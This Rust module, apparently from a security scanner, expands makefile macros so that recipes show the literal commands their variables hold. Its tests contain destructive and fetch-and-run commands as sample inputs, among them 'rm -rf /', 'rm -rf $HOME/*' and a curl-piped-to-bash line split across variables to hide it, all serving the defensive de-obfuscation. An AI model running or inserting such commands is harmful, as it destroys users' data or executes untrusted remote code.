//! A makefile → what its variables hold: `$(RM)` in a recipe is what a line `RM = rm -rf` says (POSIX, make, Macros).

use super::{
    expand::{MAX_VALUE, Plain, rewrite},
    variables::{MAX_VARIABLES, Variables},
};
use std::collections::HashMap;

const MAX_NAME: usize = 32;

/// Those that a text uses as `$(NAME)`, and what it says they hold.
#[derive(Default)]
pub(super) struct Macros {
    values: HashMap<Vec<u8>, Option<Vec<u8>>>,
}

impl Macros {
    /// `text` stands behind a `$`: notes the name that is used there, if one is.
    pub(super) fn note(&mut self, text: &[u8]) {
        if let Some(name) = used(text).filter(|_| self.values.len() < MAX_VARIABLES) {
            self.values.entry(name.to_vec()).or_default();
        }
    }

    /// What no line says of the home is in the environment.
    pub(super) fn value(&self, name: &[u8]) -> Option<&[u8]> {
        self.values.get(name)?.as_deref().or_else(|| (name == b"HOME").then_some(b"$HOME"))
    }
}

/// The name in `(NAME)`, with which `text` begins.
fn used(text: &[u8]) -> Option<&[u8]> {
    let inner = text.strip_prefix(b"(")?;
    let len = inner.iter().take(MAX_NAME + 1).take_while(|b| is_of_name(**b)).count();
    (len > 0 && inner.get(len) == Some(&b')')).then(|| &inner[..len])
}

/// Notes what the lines `NAME = value` of `text` say of those that it uses, with `:=`, `?=` and the like too: of a value
/// that names others, with what was said of these before it.
pub(super) fn definitions(text: &[u8], variables: &mut Variables) {
    if variables.macros.values.is_empty() {
        return;
    }
    for at in memchr::memchr_iter(b'=', text) {
        let Some(name) = defined(&text[..at]).filter(|name| variables.macros.values.contains_key(*name)) else {
            continue;
        };
        let rest = &text[at + 1..];
        let line = rest[..memchr::memchr2(b'\n', b'#', rest).unwrap_or(rest.len())].trim_ascii();
        if line.is_empty() || line.len() > MAX_VALUE {
            continue;
        }
        let mut plain = Plain::new(MAX_VALUE);
        rewrite(line, variables, 1, &mut plain);
        let name = name.to_vec();
        variables.macros.values.insert(name, Some(plain.bytes));
    }
}

/// The name that a line has before its `=`, and nothing before that.
fn defined(before: &[u8]) -> Option<&[u8]> {
    let floor = before.len().saturating_sub(2 * MAX_NAME);
    let start = memchr::memrchr(b'\n', &before[floor..]).map(|n| floor + n + 1).or((floor == 0).then_some(0))?;
    let name = before[start..].trim_ascii_end();
    let name = name.strip_suffix(b"?").unwrap_or(name);
    let name = name.strip_suffix(b":").map_or(name, |name| name.strip_suffix(b":").unwrap_or(name));
    let name = name.trim_ascii_end();
    (!name.is_empty() && name.iter().all(|b| is_of_name(*b))).then_some(name)
}

fn is_of_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')
}

#[cfg(test)]
mod tests {
    use super::super::tests::{is, plain};

    #[test]
    fn a_recipe_does_what_its_variables_say() {
        is("PREFIX ?= /\nRM = rm -rf\nclean:\n\t$(RM) $(PREFIX)\n", "rm -rf /\n");
        is(
            "GET := curl # to get\nSH  := ba\nURL::=https://a.example/i\n\nall:\n\t@$(GET) -s $(URL) | $(SH)sh\n",
            "@curl -s https://a.example/i | bash",
        );
        is("all:\n\trm -rf $(HOME)/*\n", "rm -rf $HOME/*");
        is("all:\n\t$(GO)\nA = rm\nGO = $(A) -rf /\n", "rm -rf /");
    }

    #[test]
    fn what_no_line_defines_stays() {
        for text in
            ["x RM = rm\n\t$(RM) /", "RM =\n\t$(RM) /", "RM = rm\n\t$(RM ) /", "$(RM) /", "# RM = rm\n\t$(RM) /"]
        {
            let made = plain(text.as_bytes()).unwrap_or_default();
            assert!(!String::from_utf8_lossy(&made).contains("rm /"), "{text}");
        }
    }
}
